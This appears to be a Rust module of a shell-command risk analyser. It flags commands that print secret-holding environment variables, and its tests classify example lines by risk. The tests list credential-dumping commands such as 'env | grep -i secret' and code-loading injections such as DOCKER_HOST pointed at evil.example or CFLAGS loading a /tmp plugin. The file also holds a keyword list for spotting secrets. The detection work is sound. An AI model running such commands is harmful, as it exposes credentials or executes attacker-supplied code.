//! Secrets in variables that a line prints: by name, or selected from all variables.

use crate::effect::{Certainty, EffectKind, RiskLevel, Span};
use crate::interpreter::engine::{Engine, Stream};
use crate::interpreter::env::names_secret;
use crate::interpreter::expand::Arg;

/// Programs that select lines from their input.
const SELECTORS: [&str; 15] = [
    "grep", "egrep", "fgrep", "ggrep", "zgrep", "rg", "ag", "ack", "awk", "gawk", "mawk", "sed",
    "gsed", "perl", "ugrep",
];

/// Returns whether a call prints every variable: `env`, `set`, `export -p`.
fn prints_all(name: &str, rest: &[Arg]) -> bool {
    let no_name = || rest.iter().all(|a| a.text.starts_with('-'));
    match name {
        "env" | "genv" => rest
            .iter()
            .all(|a| matches!(a.text.as_str(), "-0" | "--null" | "-v" | "--debug")),
        "printenv" | "gprintenv" | "export" | "declare" | "typeset" | "readonly" => no_name(),
        "set" => rest.is_empty(),
        _ => false,
    }
}

/// Returns whether a pattern searches for secrets: `-i secret`, `TOKEN`, `'^AWS_.*KEY'`.
pub(crate) fn looks_for_secrets(pattern: &str) -> bool {
    let pattern = pattern.to_ascii_lowercase();
    [
        "secret",
        "token",
        "passw",
        "passphrase",
        "api_key",
        "apikey",
        "api.key",
        "access_key",
        "access.key",
        "private_key",
        "credential",
        "_key",
        "auth",
    ]
    .iter()
    .any(|word| pattern.contains(word))
        || matches!(pattern.as_str(), "key" | "pass" | "pwd=" | "pw")
}

/// Tracks calls that print all variables. Adds an effect for a call that selects secrets from
/// their output.
pub(crate) fn variables(cx: &mut Engine<'_>, name: &str, rest: &[Arg], stdin: &Stream, span: Span) {
    if prints_all(name, rest) {
        cx.history_mut().mark_printed_all();
    } else if name == "envsubst" {
        let text = stdin.text.as_deref().unwrap_or_default();
        let mut names = text.split('$').skip(1).map(|rest| {
            let rest = rest.trim_start_matches('{');
            let end = rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'));
            rest.get(..end.unwrap_or(rest.len())).unwrap_or_default()
        });
        if names.any(names_secret) {
            secret_printed(cx, span);
        }
    } else if matches!(name, "export" | "declare" | "typeset" | "readonly") {
        let prints = |a: &Arg| a.text.starts_with('-') && a.text.contains('p');
        if rest.iter().any(prints) && rest.iter().any(|a| names_secret(&a.text)) {
            secret_printed(cx, span);
        }
    } else if cx.history().has_printed_all()
        && stdin.present
        && SELECTORS.contains(&name)
        && !rest.iter().any(|a| hides_lines(&a.text))
        && rest.iter().any(|a| looks_for_secrets(&a.text))
    {
        secret_printed(cx, span);
    }
}

fn secret_printed(cx: &mut Engine<'_>, span: Span) {
    cx.emit_raw(
        EffectKind::Credential,
        None,
        Certainty::Possible,
        span,
        RiskLevel::High,
        "prints a variable that holds a secret",
    );
}

/// Returns whether an option suppresses the lines themselves: it prints a count, no output, or only
/// the other lines.
fn hides_lines(option: &str) -> bool {
    matches!(
        option,
        "--count" | "--quiet" | "--silent" | "--invert-match" | "--only-matching"
    ) || option
        .strip_prefix('-')
        .is_some_and(|o| !o.starts_with('-') && o.len() < 5 && o.contains(['c', 'q', 'v']))
}

#[cfg(test)]
mod tests {
    use crate::{RiskLevel, risk_of};

    #[test]
    fn secrets_picked_out_of_all_variables() {
        for line in [
            "env | grep -i secret",
            "printenv | grep TOKEN",
            "export -p | grep TOKEN",
            "set | grep -i passw",
            "env | sort | awk '/API_KEY/'",
            "declare -x | sed -n '/PASSWORD/p'",
            "declare -p GITHUB_TOKEN",
            "echo ${AWS_SECRET_ACCESS_KEY:0:40}",
            "echo \"${DB_PASSWORD#x}\"",
            "printf %s \"${API_TOKEN^^}\"",
            "envsubst <<< '${GITHUB_TOKEN}'",
            "echo 'x $DB_PASSWORD' | envsubst",
        ] {
            assert_eq!(risk_of(line), RiskLevel::High, "{line}");
        }
    }

    #[test]
    fn other_variables_and_counts_stay_low() {
        for line in [
            "env | grep PATH",
            "env | sort | head",
            "set | grep ^BASH",
            "env | grep -c TOKEN",
            "env | grep -q GITHUB_TOKEN",
            "env; cat README.md | grep token",
            "declare -p PATH",
            "export -p",
            "echo ${GITHUB_TOKEN:0:4}",
            "echo ${GITHUB_TOKEN:+is set}",
            "echo ${#GITHUB_TOKEN}",
            "envsubst <<< '$HOST ${PORT}'",
        ] {
            assert_eq!(risk_of(line), RiskLevel::Low, "{line}");
        }
    }

    #[test]
    fn variables_that_load_code_from_elsewhere() {
        for line in [
            "DOTNET_STARTUP_HOOKS=/tmp/x.dll dotnet --info",
            "PYTHONWARNINGS=error::evil.X python3 -c pass",
            "RUSTUP_TOOLCHAIN=/tmp/x cargo build",
            "PIP_TARGET=/etc ls",
            "GIT_INDEX_FILE=/etc/x ls",
            "CFLAGS=-fplugin=/tmp/x.so make",
            "GTK_MODULES=/tmp/x zenity --info",
            "HOME=/tmp git status",
            "DOCKER_HOST=tcp://evil.example:2375 docker build .",
        ] {
            assert_eq!(risk_of(line), RiskLevel::High, "{line}");
        }
        for line in [
            "CFLAGS=-O2 ls",
            "PYTHONWARNINGS=ignore::DeprecationWarning,default python3 -c pass",
            "CARGO_TARGET_DIR=target/x ls",
            "PIP_CACHE_DIR=/home/dev/.cache/pip ls",
            "GTK_MODULES=gail ls",
            "HOME=/home/dev git status",
            "LDFLAGS=-L/usr/local/lib ls",
        ] {
            assert_eq!(risk_of(line), RiskLevel::Low, "{line}");
        }
        assert_eq!(
            risk_of("DOCKER_HOST=ssh://web1 docker ps"),
            RiskLevel::Medium
        );
    }
}
